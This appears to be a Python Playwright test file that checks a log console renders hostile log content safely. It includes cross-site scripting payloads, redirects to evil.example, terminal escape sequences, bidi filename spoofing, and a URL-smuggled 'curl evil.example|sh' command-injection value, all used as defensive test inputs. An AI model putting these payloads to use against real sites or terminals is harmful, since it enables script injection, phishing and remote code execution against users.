"""Logs with markup, scripts and control characters."""

import pytest
from playwright.sync_api import expect

from tests.acceptance.client import Client
from tests.acceptance.local_server import LocalServer
from tests.console.conftest import OpenPage
from tests.console.shop import address, send

RUN = "window.sentinel.push(1)"
ESCAPE = "\x1b"
HOSTILE = {
    "script": f"<script>{RUN}</script>",
    "handler": f"<img src=x onerror={RUN}>",
    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    "link": f'<a href="javascript:{RUN}">javascript:{RUN}</a>',
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "style": "</style><style>*{display:none!important}</style>",
    "meta": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "base": "<base href=http://evil.example/><form action=http://evil.example/><button>go",
    "template": "{{constructor.constructor('" + RUN + "')()}} ${" + RUN + "} <%= " + RUN + " %>",
    "element": "<log-list></log-list><key-prompt></key-prompt>",
    "entities": "&lt;script&gt;&#x3c;img src=x onerror=1&#x3e;",
    "closing": "</textarea></title></noscript></template>--><!--<![CDATA[",
    "long": "x" * 99_000,
    "tall": "e" + "\u0301" * 3_000,
    "lines": "first\n" * 2_000,
    "prototype": "__proto__ constructor toString [CONSTRUCTOR] [TO_STRING]",
}
# What a browser or a terminal would obey, and the mark that stands for it.
OBEYED = {
    "override": ("user\u202egnp.exe", "U+202E"),
    "isolate": ("a\u2067b\u2069c", "U+2067"),
    "hidden": ("a\u200bb\ufeffc", "U+200B"),
    "tags": ("a\U000e0041b", "U+E0041"),
    "bell": ("a\x07b", "\u2407"),
    "return": ("good\rbad", "\u240d"),
    "separator": ("a\u2028b", "U+2028"),
    "title": (f"{ESCAPE}]0;owned\x07text", "\u241b"),
    "clear": (f"{ESCAPE}[2J{ESCAPE}[1;1Htext", "\u241b"),
}


@pytest.fixture(scope="module")
def hostile(server: LocalServer) -> str:
    """Return a tenant with all hostile texts as logs, attributes, attribute names and services."""
    client = Client(server.endpoint)
    texts = HOSTILE | {name: text for name, (text, _) in OBEYED.items()}
    send(
        client,
        "hostile",
        [
            {"log_id": name, "message": text, "service": text[:60], "level": "error", "data": {text[:90]: text[:900]}}
            for name, text in texts.items()
        ],
    )
    return "hostile"


def test_markup_is_shown_as_text(open_page: OpenPage, server: LocalServer, hostile: str) -> None:
    """Markup, scripts and templates in a log are shown as text and never interpreted."""
    page = open_page(address(server, hostile))
    foreign = (
        "log-list :is(script, img, svg, iframe, style, meta, base, form, a[href^='javascript:'], noscript, textarea)"
    )
    for name, text in HOSTILE.items():
        page.goto(address(server, hostile, log=name))
        whole = page.locator(f"[data-id={name}] .whole")
        expect(whole).to_be_visible()
        assert whole.evaluate("element => element.textContent") == text, name
        assert page.locator(foreign).count() == 0, name
        assert page.url.startswith(server.endpoint), name
        assert page.evaluate("document.querySelector('header').checkVisibility()"), name
        for button in page.locator(f"[data-id={name}] .filter").all()[:4]:
            assert button.is_visible(), name


def test_what_would_be_obeyed_is_marked(open_page: OpenPage, server: LocalServer, hostile: str) -> None:
    """Control characters, changes of direction and invisible characters are shown as marks with their names."""
    page = open_page(address(server, hostile))
    for name, (text, mark) in OBEYED.items():
        page.goto(address(server, hostile, log=name))
        whole = page.locator(f"[data-id={name}] .whole")
        expect(whole.locator(".mark").first).to_have_text(mark)
        shown = whole.evaluate("element => element.textContent")
        assert not any(character in shown for character in text if not character.isprintable()), name


def test_colours_of_terminals_are_colours(open_page: OpenPage, server: LocalServer, client: Client) -> None:
    """Terminal colours are shown as colours, without their escape sequences, and end with the text."""
    send(
        client,
        "colours",
        [
            {"message": f"{ESCAPE}[31mred{ESCAPE}[0m plain {ESCAPE}[1;38;5;208mbold{ESCAPE}[0m"},
            {"message": f"{ESCAPE}[38;2;1;2;3munended"},
        ],
    )
    page = open_page(address(server, "colours"))
    expect(page.locator("log-list .text")).to_have_text(["red plain bold", "unended"])
    colour = "element => getComputedStyle(element).color"
    red, bold = (page.locator("log-list .text span", has_text=text).first for text in ("red", "bold"))
    plain = page.locator("log-list .text").first.evaluate(colour)
    assert len({red.evaluate(colour), bold.evaluate(colour), plain}) == 3
    assert page.locator("log-list .level").first.evaluate(colour) != red.evaluate(colour)


def test_a_bomb_of_colours_costs_few_nodes(open_page: OpenPage, server: LocalServer, client: Client) -> None:
    """A text that changes its colour at each character is shown completely with at most 800 nodes."""
    bomb = "".join(f"{ESCAPE}[{31 + index % 7}m{index % 10}" for index in range(10_000))
    send(client, "bomb", [{"log_id": "bomb", "message": bomb}])
    page = open_page(address(server, "bomb", log="bomb"))
    whole = page.locator("[data-id=bomb] .whole")
    expect(whole).to_be_visible()
    assert whole.evaluate("element => element.textContent") == "".join(str(index % 10) for index in range(10_000))
    assert page.locator("[data-id=bomb] *").count() < 800


def test_a_hostile_address_becomes_no_command(open_page: OpenPage, server: LocalServer) -> None:
    """Nothing of an invalid tenant in a link gets into the command that users copy."""
    page = open_page(f"{server.endpoint}/console#/logs?tenant=x%27%3Bcurl%20evil.example%7Csh%3B%27")
    expect(page.locator("first-log pre")).to_be_visible()
    assert "evil" not in page.locator("first-log pre").inner_text()
